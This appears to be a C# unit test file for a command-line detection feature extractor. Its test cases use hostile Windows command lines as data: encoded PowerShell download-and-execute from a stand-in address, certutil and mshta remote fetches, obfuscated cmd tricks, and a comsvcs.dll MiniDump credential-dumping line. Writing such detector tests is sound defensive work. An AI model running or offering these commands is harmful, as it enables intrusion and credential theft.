using Changeling.TestSupport;

namespace Changeling.Core.Tests.Features;

public class CommandLineFeatureTests
{
    [Theory]

    // Switches as Windows parses them
    [InlineData("powershell.exe", "powershell -enc SQBFAFgA", "behaviour.powershell_encoded", 1)]
    [InlineData("powershell.exe", "powershell /enc SQBFAFgA", "behaviour.powershell_encoded", 1)]
    [InlineData("powershell.exe", "powershell –enc SQBFAFgA", "behaviour.powershell_encoded", 1)]
    [InlineData("powershell.exe", "powershell -NoP -W Hidden -c ls", "behaviour.powershell_hidden", 1)]
    [InlineData("certutil.exe", "certutil /urlcache /f http://192.0.2.1/a a", "behaviour.certutil_transfer", 1)]

    // Escapes
    [InlineData("cmd.exe", "cmd /c who^ami", "command_line.carets", 1)]
    [InlineData("cmd.exe", "cmd /c who^ami", "behaviour.who_and_what", 1)]
    [InlineData("powershell.exe", "powershell I`E`X $x", "behaviour.evaluates_text", 1)]
    [InlineData("powershell.exe", "powershell ('down'+'loadstring')", "behaviour.downloads_in_script", 1)]
    [InlineData("cmd.exe", "cmd /c \"ls\" &gt; a.txt", "command_line.redirections", 1)]

    // Base64 looked into: IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')
    [InlineData("powershell.exe",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
        "command_line.base64_hides_text", 1)]
    [InlineData("powershell.exe",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
        "behaviour.downloads_in_script", 2)]
    [InlineData("notepad.exe", @"notepad.exe C:\Users\Public\Documents\ReadMeFirst.txt", "command_line.base64_hides_text", 0)]

    // Hexadecimal looked into: certutil -urlcache …, and whoami /all in UTF-16; hashes and numbers hold nothing
    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865",
        "behaviour.certutil_transfer", 1)]
    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865",
        "behaviour.web_address", 1)]
    [InlineData("a.exe", "a.exe -x 0x770068006F0061006D00690020002F0061006C006C00", "behaviour.who_and_what", 1)]
    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865",
        "command_line.base64_hides_text", 0)]
    [InlineData("a.exe", "a.exe -x 3f786850e387550fdab836ed7e6dc881de23001b", "command_line.words", 1.5849625f)]
    [InlineData("a.exe", "a.exe -x 4624665222462466522246", "command_line.words", 1.5849625f)]

    // What the text names
    [InlineData("mshta.exe", "mshta http://192.0.2.7/a.hta", "behaviour.web_address", 1)]
    [InlineData("mshta.exe", "mshta http://192.0.2.7/a.hta", "command_line.script_file", 1)]
    [InlineData("curl.exe", "curl -o a.exe 192.0.2.7", "command_line.ip_address", 1)]
    [InlineData("rundll32.exe", @"rundll32 \\srv\share\a.dll,Run", "command_line.network_path", 1)]
    [InlineData("rundll32.exe", @"rundll32 \\srv@SSL\DavWWWRoot\a.dll,Run", "behaviour.network_share", 2)]
    [InlineData("cmd.exe", @"cmd /c type a.exe > C:\notes.txt:a.exe", "behaviour.alternate_stream", 1)]
    [InlineData("cmd.exe", "cmd /c %own:~0,1%ho x", "behaviour.variable_tricks", 1)]
    [InlineData("cmd.exe", "cmd /c %comspec:~0,1%ho x", "command_line.disguises", 1)]
    [InlineData("powershell.exe", "powershell ('down'+'load'+'string')", "command_line.disguises", 2)]
    [InlineData("powershell.exe", "powershell ls # robot", "command_line.comment", 1)]
    [InlineData("powershell.exe", "powershell ls", "command_line.comment", 0)]
    [InlineData("powershell.exe", "powershell ls # robot", "command_line.comment_length", 2.5849626f)]
    [InlineData("cmd.exe", @"cmd /c C:\a.exe", "command_line.drive_root_file", 1)]
    [InlineData("cmd.exe", @"cmd /c C:\tools\a.exe", "command_line.drive_root_file", 0)]
    [InlineData("cmd.exe", @"cmd /c invoice.pdf.exe", "command_line.double_extension", 1)]
    [InlineData("docx.exe", "docx.exe", "command_line.double_extension", 1)]
    [InlineData("docx2pdf.exe", "docx2pdf.exe", "command_line.double_extension", 0)]
    [InlineData("rundll32.exe", @"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\a.dmp full", "behaviour.lsass", 2)]

    // The inner command
    [InlineData("cmd.exe", "cmd.exe /c powershell -c ls", "inner.kind.shell", 1)]
    [InlineData("cmd.exe", "cmd.exe /s /c \"net user\"", "inner.kind.discovery", 1)]
    [InlineData("cmd.exe", "cmd.exe /cnet user", "inner.kind.discovery", 1)]
    [InlineData("cmd.exe", "cmd.exe", "inner.present", 0)]
    [InlineData("powershell.exe", "powershell -Command \"& certutil -f x\"", "inner.kind.transfer", 1)]

    // The program's own name is not part of the text
    [InlineData("certutil.exe", @"""C:\Windows\System32\certutil.exe""", "command_line.length", 0)]
    [InlineData("svchost.exe", "lsass.exe -x", "command_line.image_differs", 1)]
    [InlineData("svchost.exe", "svchost -k netsvcs", "command_line.image_differs", 0)]
    public void A_command_line_gives_the_value(string child, string commandLine, string feature, float expected) =>
        Assert.Equal(expected, Feature.Of(Some.ProcessEvent(child: child, commandLine: commandLine), feature));
}
